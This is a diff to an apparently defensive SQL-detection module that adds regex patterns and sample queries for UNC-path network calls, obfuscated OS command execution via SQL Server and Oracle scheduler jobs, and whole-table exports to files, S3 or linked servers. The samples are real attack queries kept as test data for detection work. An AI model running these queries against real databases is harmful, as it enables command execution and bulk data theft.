@@ -16,7 +16,7 @@ _CALLED = rf"(?<!function )(?<!procedure ){_QUALIFIED}"  # and not created, gran
 _EXECUTED = r"(?:\A|;|\b(?:exec(?:ute)?|call|begin|then|else) ?)(?:@\w{1,128}=)?(?:[\w$#]{0,128}\.){0,3}"
 _READ_FROM = r"(?:\bfrom|\bjoin|,|\bcopy|(?:\A|;|\()table) ?(?:only )?"
 _COPY = r"(?:\Acopy\b[^;]{1,1900}?|(?:;|\b(?:begin|then|else|loop) ?)copy\b[^;]{1,400}?)"
-_UNC = r"'\\\\"  # a literal that begins with two backslashes
+_UNC = r"'\\\\|\bchar\(92\)\s{0,9}\+\s{0,9}char\(92\)|\b0x5c005c|\b0x5c5c"  # two backslashes at the beginning
 _SOME = r"[\w$#]{1,128}"
 
 
@@ -58,10 +58,9 @@ _UNTRUSTED = _words("plperlu plpythonu plpython2u plpython3u pltclu plsh c")
 # Aggregates: from where rows are read, as long as nothing chooses, groups or limits them. Derived tables do not count,
 # unless they are a plain table themselves: programming interfaces read pages so.
 _UP_TO_FROM = r"(?:(?!\bfrom\b)[^;]){0,400}+\bfrom ?"
-_NO_CHOICE = (
-    r"(?:(?!\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|cross apply|select)\b)[^();?$@]){1,300}+"
-)
-_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[?01]|<>[?01]| is not null)) ?)?"
+_CHOICE = r"\b(?:where|group|limit|having|lateral|fetch|offset|order|union|for|into|cross apply|select)\b"
+_NO_CHOICE = rf"(?:(?!{_CHOICE})[^();?$@]){{1,300}}+"
+_ALWAYS_TRUE = r"(?:where (?:true|[?01](?:=[?01])?|[\w.]{1,130}(?:>=?[01]|<>[01]| is not null)) ?)?"
 _REST = r"(?:order by [\w.,]{1,130} ?(?:desc ?|asc ?)?)?"
 _ALL_ROWS = (
     rf"{_UP_TO_FROM}(?:{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}(?=$|[);]|\bunion\b)"
@@ -289,6 +288,7 @@ _NETWORK_CALL = Signal(
             "DECLARE @p varchar(99); SET @p = '\\\\' + (SELECT db_name()) + '.evil.example\\a'; EXEC xp_fileexist @p",
             "SELECT * FROM sys.fn_xe_file_target_read_file('\\\\203.0.113.9\\a.xel', NULL, NULL, NULL)",
             "SELECT * FROM fn_trace_gettable('\\\\203.0.113.9\\a.trc', default)",
+            "DECLARE @p varchar(99) = CHAR(92) + CHAR(92) + '203.0.113.9'; EXEC xp_dirtree @p",
             "BACKUP LOG [store] TO DISK = '\\\\203.0.113.9\\s\\a.bak'",
             "EXEC msdb.dbo.sp_send_dbmail @recipients='a@example.com', @query='select * from c'",
             "EXEC sp_configure 'Ad Hoc Distributed Queries', 1",
@@ -507,6 +507,7 @@ _PROGRAM_EXECUTION = Signal(
             r"\bdbms_scheduler\.(?:create_job|create_program|create_credential|set_attribute|create_file_watcher)",
             r"'(?:executable|external_script|backup_script|sql_script)'",
         ),
+        Pattern(_ORACLE, ("job_type", "program_type"), r"\b(?:job|program)_type=>\?\|\|\?"),
         Pattern(
             _ORACLE, ("dbms_scheduler", "dbms_credential"), r"\b(?:dbms_scheduler|dbms_credential)\.create_credential\b"
         ),
@@ -537,6 +538,7 @@ _PROGRAM_EXECUTION = Signal(
             r"\b(?:xp_cmdshell|sp_oa\w++|sp_execute_external_script)\b",
         ),
         Pattern(_SQLSERVER, ("dbcc",), r"\bdbcc addextendedproc\b"),
+        Pattern(_SQLSERVER, ("subsystem",), r"@subsystem=@"),
         _procedures("sp_add_jobstep", "sp_update_jobstep", raw=r"'(?:cmdexec|powershell|activescripting|ssis)'"),
         _procedures(
             "sp_configure",
@@ -565,6 +567,7 @@ _PROGRAM_EXECUTION = Signal(
         "oracle": (
             "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM(program_name=>'P', program_type=>'EXECUTABLE',"
             " program_action=>'/bin/sh'); END;",
+            "BEGIN DBMS_SCHEDULER.CREATE_PROGRAM('P', program_type => 'EXEC' || 'UTABLE', program_action => 'i'); END;",
             "BEGIN DBMS_SCHEDULER.CREATE_JOB('J', job_type => 'external_script', job_action => 'id'); END;",
             "SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper', 'main', '/bin/sh') FROM dual",
             "SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh') FROM dual",
@@ -580,6 +583,7 @@ _PROGRAM_EXECUTION = Signal(
             "DECLARE @o INT EXEC sp_oacreate 'wscript.shell', @o OUT",
             "EXECUTE sp_execute_external_script @language=N'Python', @script=N'import os'",
             "EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @step_name=N'1', @subsystem=N'CMDEXEC', @command=N'whoami'",
+            "DECLARE @s sysname = N'Cmd' + N'Exec'; EXEC msdb.dbo.sp_add_jobstep @job_name=N'j', @subsystem=@s",
             "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
         ),
     },
@@ -611,6 +615,27 @@ _PROGRAM_EXECUTION = Signal(
     },
 )
 
+_ORACLE_EXPORTS = (
+    # Data Pump imports with the same package.
+    Pattern(
+        _ORACLE,
+        ("dbms_datapump",),
+        r"\bdbms_datapump\.open\(",
+        r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
+    ),
+    Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
+    Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
+    Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
+    Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
+)
+_BACKUPS = (
+    _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
+    Pattern(
+        _SQLSERVER,
+        ("backup",),
+        r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
+    ),
+)
 _EXPORT = Signal(
     "export",
     "Rows are unloaded to a file, to S3, to the client by a copy command, by mail, or into a backup.",
@@ -624,24 +649,9 @@ _EXPORT = Signal(
             r"(?=$|[;(]| ?(?:with|csv|binary|delimiters?|null|header|encoding|quote|escape|force|using|end)\b)",
         ),
         Pattern(_MYSQL, ("outfile",), r"\binto outfile\b"),
-        # Data Pump imports with the same package.
-        Pattern(
-            _ORACLE,
-            ("dbms_datapump",),
-            r"\bdbms_datapump\.open\(",
-            r"\A(?![\s\S]{0,1900}'(?:import|sql_file)')(?!(?:(?!open\b)[\s\S]){0,1900}open\s{0,9}\([\w\s=>]{0,30}:)",
-        ),
-        Pattern(_ORACLE, ("rdsadmin_s3_tasks",), r"\brdsadmin_s3_tasks\.upload_to_s3\b"),
-        Pattern(_ORACLE, ("rdsadmin_rman_util",), r"\brdsadmin_rman_util\.backup_"),
-        Pattern(_ORACLE, ("dbms_cloud",), r"\bdbms_cloud\.(?:export_data|put_object|move_object|copy_object)\b"),
-        Pattern(_ORACLE, ("oracle_datapump",), r"\btype oracle_datapump\b[^;]{0,1500}\bas select\b"),
-        _procedures("rds_backup_database", "rds_upload_to_s3", "sp_makewebtask"),
+        *_ORACLE_EXPORTS,
+        *_BACKUPS,
         _procedures("sp_send_dbmail", raw=r"@(?:query|file_attachments)\s{0,9}="),
-        Pattern(
-            _SQLSERVER,
-            ("backup",),
-            r"\bbackup (?:database|log) [\w@?$#]{1,128} ?[^;]{0,400}?\bto (?:disk|url|tape|virtual_device|@?\w)",
-        ),
         Pattern(
             _SQLSERVER,
             _words("openrowset openquery opendatasource"),
@@ -700,6 +710,77 @@ _EXPORT = Signal(
             "exec msdb.dbo.rds_task_status @db_name='store'",
             "INSERT INTO sales.dbo.c SELECT * FROM dbo.d",
             "SELECT backup_finish_date FROM msdb.dbo.backupset",
+        ),
+    },
+)
+
+_TO_CLIENT_OR_FILE = r"to (?:std(?:out|in)\b|program ?[?$]|[?$])"
+_WHOLE_TABLE_EXPORT = Signal(
+    "whole-table-export",
+    "Whole tables or databases are unloaded: nothing chooses, groups or limits the rows.",
+    (
+        Pattern(
+            _PG,
+            ("copy",),
+            rf"\Acopy (?:only )?[\w$.]{{1,130}} ?(?:\([\w$,]{{0,1900}}\))?{_TO_CLIENT_OR_FILE}"
+            rf"|\Acopy\((?:table [\w$.]{{1,130}}\)"
+            rf"|select(?![^;]{{0,400}}\b(?:count|sum|min|max|avg)\(){_ALL_ROWS}[^;]{{0,99}}?\)){_TO_CLIENT_OR_FILE}",
+        ),
+        _calls(_PG, "query_export_to_s3", raw=r"\A(?![\s\S]{0,1900}\b(?:where|limit)\b)"),
+        Pattern(
+            _MYSQL,
+            ("outfile",),
+            rf"\A(?:select\b{_UP_TO_FROM}{_NO_CHOICE}{_ALWAYS_TRUE}{_REST}into outfile\b"
+            rf"|table [\w$.]{{1,130}} into outfile\b"
+            rf"|select[^;]{{1,400}}?\binto outfile\b[^;]{{0,300}}?\bfrom {_NO_CHOICE}{_ALWAYS_TRUE}{_REST}$)",
+        ),
+        *_ORACLE_EXPORTS,
+        *_BACKUPS,
+        Pattern(
+            _SQLSERVER,
+            _words("openrowset openquery opendatasource insert"),
+            rf"\binsert (?:into )?(?:openrowset\(|openquery\(|opendatasource\("
+            rf"|{_SOME}\.[\w$#]{{0,128}}\.[\w$#]{{0,128}}\.)[^;]{{1,400}}?select\b{_ALL_ROWS}",
+        ),
+    ),
+    samples={
+        "postgresql": (
+            "COPY customers TO STDOUT",
+            "COPY public.customers (id, a) TO stdout;",
+            "COPY (SELECT * FROM customers WHERE true) TO STDOUT WITH CSV",
+            "COPY (TABLE customers) TO '/tmp/c'",
+            "SELECT aws_s3.query_export_to_s3('select * from customers', 'b', 'c.csv', 'eu-west-1')",
+        ),
+        "mysql": (
+            "SELECT * FROM customers INTO OUTFILE S3 's3://b/c' FORMAT CSV HEADER",
+            "SELECT id, email FROM customers WHERE 1=1 INTO OUTFILE '/tmp/c'",
+            "SELECT * INTO OUTFILE S3 's3://b/c' FROM customers",
+        ),
+        "oracle": (
+            "DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN(operation => 'EXPORT', job_mode => 'TABLE'); END;",
+            "SELECT rdsadmin.rdsadmin_s3_tasks.upload_to_s3(p_bucket_name => 'b') AS TASK_ID FROM DUAL",
+        ),
+        "sqlserver": (
+            "exec msdb.dbo.rds_backup_database @source_db_name='store', @s3_arn_to_backup_to='arn:aws:s3:::b/s.bak'",
+            "INSERT INTO X9.loot.dbo.c SELECT Email, Phone FROM dbo.Customers",
+        ),
+    },
+    near_misses={
+        "postgresql": (
+            "COPY (SELECT id, status FROM orders WHERE created > '2031-02-01') TO STDOUT WITH CSV HEADER",
+            "COPY (SELECT country, count(*) FROM customers GROUP BY country) TO STDOUT WITH CSV HEADER",
+            "COPY (SELECT * FROM orders LIMIT 100) TO STDOUT",
+            "COPY t FROM STDIN",
+            "SELECT aws_s3.query_export_to_s3('select * from orders where day = 4', 'b', 'c.csv', 'eu-west-1')",
+        ),
+        "mysql": (
+            "SELECT * FROM orders WHERE day = '2031-03-04' INTO OUTFILE S3 's3://b/c'",
+            "SELECT a INTO @b FROM t",
+        ),
+        "oracle": ("DECLARE h NUMBER; BEGIN h := DBMS_DATAPUMP.OPEN('IMPORT', 'SCHEMA'); END;", "SELECT id FROM t"),
+        "sqlserver": (
+            "INSERT INTO dwh.sales.dbo.orders SELECT Id FROM dbo.Orders WHERE Day = @p0",
+            "exec msdb.dbo.rds_task_status @db_name='store'",
         ),
     },
 )
@@ -1316,6 +1397,7 @@ ACCESS: tuple[Signal, ...] = (
     _SERVER_FILE,
     _PROGRAM_EXECUTION,
     _EXPORT,
+    _WHOLE_TABLE_EXPORT,
     _IMPORT,
     _DUMP_QUERY,
     _HANDLER_READ,
